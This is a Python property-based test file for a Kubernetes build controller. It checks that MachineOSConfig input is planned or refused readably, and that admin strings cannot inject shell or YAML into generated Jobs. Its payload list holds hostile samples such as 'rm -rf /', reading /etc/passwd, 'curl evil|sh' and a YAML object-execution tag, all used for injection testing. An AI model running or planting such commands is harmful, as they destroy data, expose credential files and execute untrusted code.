"""Bad and odd input, generated (hypothesis): any MachineOSConfig the API server accepts is
either planned or refused with a readable reason, planning settles instead of looping, and
admin strings crafted as shell or YAML stay data inside the one field they belong to."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from typing import Any

import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from api import MachineOSConfig, describe_validation_error
from hack import podrunner
from mosb_controller.planning import objects as jobspec
from mosb_controller.planning.inputs import BuildInputs
from mosb_controller.planning.observed import mosb_view
from mosb_controller.planning.plan import plan_mosc
from mosb_controller.settings import Settings
from tests.support.factories import ARCHES, absent_everywhere, mosc_body, observed, summary

CF_ARCHES = ("NoArch", "AMD64", "ARM64", "PPC64LE", "S390X")
# The CRD's own rules (manifests/crds): what the API server accepts.
PUSH_SPEC = (
    r"([a-zA-Z0-9-]+\.)+[a-zA-Z0-9-]+(:[0-9]{2,5})?(/[a-zA-Z0-9-_]{1,61})*"
    r"/[a-zA-Z0-9-_.]+:[a-zA-Z0-9._-]+"
)
DNS_SUBDOMAIN = r"[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?(\.[a-z0-9]([-a-z0-9]{0,10}[a-z0-9])?){0,2}"
# Shell and YAML payloads, mixed into generated text.
NASTY = [
    "$(touch /tmp/pwned)", "`id`", "'; rm -rf / #", '"; exit 1; "', "${IFS}cat${IFS}/etc/passwd",
    "\n---\nkind: Pod\n", "key: {value: [1, 2]}", "&anchor *anchor", "!!python/object:os.system",
    "$(MOSB_PUSH_AUTHFILE)", "\x00", "\u202e\u0000é漢字🙂", "\\\n", "EOF\nRUN curl evil|sh",
]  # fmt: skip
texts = st.one_of(
    st.text(max_size=200),
    st.sampled_from(NASTY),
    st.lists(st.sampled_from(NASTY) | st.text(max_size=20), max_size=8).map("".join),
    st.just("x" * 4096),  # the CRD's maxLength for content
)


@st.composite
def mosc_bodies(draw: st.DrawFn) -> dict[str, Any]:
    arches = draw(st.lists(st.sampled_from(CF_ARCHES), unique=True, max_size=5))
    push_secret = draw(st.from_regex(DNS_SUBDOMAIN, fullmatch=True))
    push_spec = draw(st.from_regex(PUSH_SPEC, fullmatch=True).filter(lambda s: len(s) <= 447))
    entries = [(a, draw(texts.filter(lambda t: 0 < len(t) <= 4096))) for a in arches]
    pull_secret = None
    if draw(st.booleans()):
        pull_secret = draw(st.from_regex(DNS_SUBDOMAIN, fullmatch=True))
    annotations = draw(st.dictionaries(st.sampled_from(["a", "b/c"]), texts, max_size=2))
    return mosc_body(
        entries,
        pull_secret=pull_secret,
        push_secret=push_secret,
        push_spec=push_spec,
        annotations=annotations,
    )


pool_arches = st.lists(st.sampled_from(ARCHES), unique=True, max_size=4)


@given(mosc_bodies(), pool_arches)
@settings(max_examples=300)
def test_accepted_mosc_is_planned_or_refused_readably_and_settles(
    body: dict[str, Any], arches: list[str]
) -> None:
    try:
        parsed = MachineOSConfig.from_k8s(body)
    except ValidationError as exc:  # what the operator reports as InvalidMachineOSConfig
        message = describe_validation_error(exc)
        assert message.strip() and "Traceback" not in message
        return
    secrets = {parsed.spec.rendered_image_push_secret.name: "kubernetes.io/dockerconfigjson"}
    if parsed.spec.base_image_pull_secret is not None:
        secrets[parsed.spec.base_image_pull_secret.name] = "kubernetes.io/dockerconfigjson"
    obs = observed(mosc=parsed, pool_arches=summary(arches), secrets=secrets)
    plan = plan_mosc(obs)
    if plan.refusal is not None:
        assert re.fullmatch(r"[A-Z][A-Za-z]+", plan.refusal.reason)
        assert plan.refusal.message.strip() and "Traceback" not in plan.refusal.message
        assert plan.create_mosb is None and not plan.create_jobs
        return
    obs = replace(obs, images=absent_everywhere(plan))
    plan = plan_mosc(obs)
    assert plan.create_mosb is not None
    # The created MOSB, seen back: planning now works on it, never recreates or drops it.
    created = plan.create_mosb.to_k8s()
    created["metadata"].update(uid="uid-mosb", creationTimestamp="2026-11-22T11:00:00Z")
    name = created["metadata"]["name"]
    again = plan_mosc(replace(obs, mosbs={name: mosb_view(created)}))
    assert again.create_mosb is None and name not in again.delete_mosbs
    assert {j["metadata"]["name"] for j in again.create_jobs} <= {
        jobspec.build_job_name(name, a) for a in arches
    }


def leaves(obj: Any, path: str = "") -> dict[str, Any]:
    """Every leaf of a JSON document by its path: the document's shape and values."""
    if isinstance(obj, dict):
        return {
            k: v for key, value in obj.items() for k, v in leaves(value, f"{path}.{key}").items()
        }
    if isinstance(obj, list):
        return {
            k: v for i, value in enumerate(obj) for k, v in leaves(value, f"{path}[{i}]").items()
        }
    return {path: obj}  # fmt: skip


def inputs_with(text: str, name: str = "worker") -> BuildInputs:
    return BuildInputs(
        mosc=name,
        pool="worker",
        rendered_config="rendered-worker-1",
        base_image="registry.example.com/rhcos@sha256:" + "0" * 64,
        architectures=("amd64", "arm64"),
        containerfiles={"amd64": f"RUN true\n{text}", "arm64": "RUN true"},
        repository=f"registry.example.com/ocl/{text}",
        push_secret=f"push{text}",
        pull_secret=f"pull{text}",
    )


# Where an admin string may land in a Job: its own field, nowhere else.
ADMIN_FIELDS = re.compile(
    r"\.spec\.template\.spec\.containers\[0\]\.env\[\d+\]\.value"
    r"|\.spec\.template\.spec\.volumes\[\d+\]\.secret\.secretName"
)


@given(texts)
@settings(max_examples=300)
def test_admin_strings_stay_data_in_their_own_field(text: str) -> None:
    settings_ = Settings(namespace="mosb")
    images = {"amd64": "r/x@sha256:" + "1" * 64, "arm64": "r/x@sha256:" + "2" * 64}
    renders: list[Callable[[BuildInputs], dict[str, Any]]] = [
        lambda i: jobspec.build_job(i, "worker-abc", "uid", "amd64", settings_),
        lambda i: jobspec.push_job(i, "worker-abc", "uid", images, settings_),
    ]
    for render in renders:
        plain, crafted = render(inputs_with("")), render(inputs_with(text))
        plain_leaves, crafted_leaves = leaves(plain), leaves(crafted)
        assert plain_leaves.keys() == crafted_leaves.keys()  # no field added or removed
        changed = {p for p in plain_leaves if plain_leaves[p] != crafted_leaves[p]}
        assert all(ADMIN_FIELDS.fullmatch(p) for p in changed), changed
        container = crafted["spec"]["template"]["spec"]["containers"][0]
        assert container["command"] == plain["spec"]["template"]["spec"]["containers"][0]["command"]
        # The kubelet's $(VAR) expansion gives the script the admin's exact string.
        env = {e["name"]: e["value"] for e in container["env"]}
        expanded = {k: podrunner.expand(v, env.get) for k, v in env.items()}
        assert text in expanded["MOSB_TARGET_IMAGE"]
        assert yaml.safe_load(yaml.safe_dump(crafted)) == crafted  # YAML can't reshape it
    configmap = jobspec.inputs_configmap(inputs_with(text), "worker-abc", "uid", ["amd64"],
                                         settings_)  # fmt: skip
    assert f"RUN true\n{text}".rstrip() in configmap["data"]["Containerfile.amd64"]
    assert set(configmap["data"]) == set(
        jobspec.inputs_configmap(inputs_with(""), "worker-abc", "uid", ["amd64"], settings_)["data"]
    )
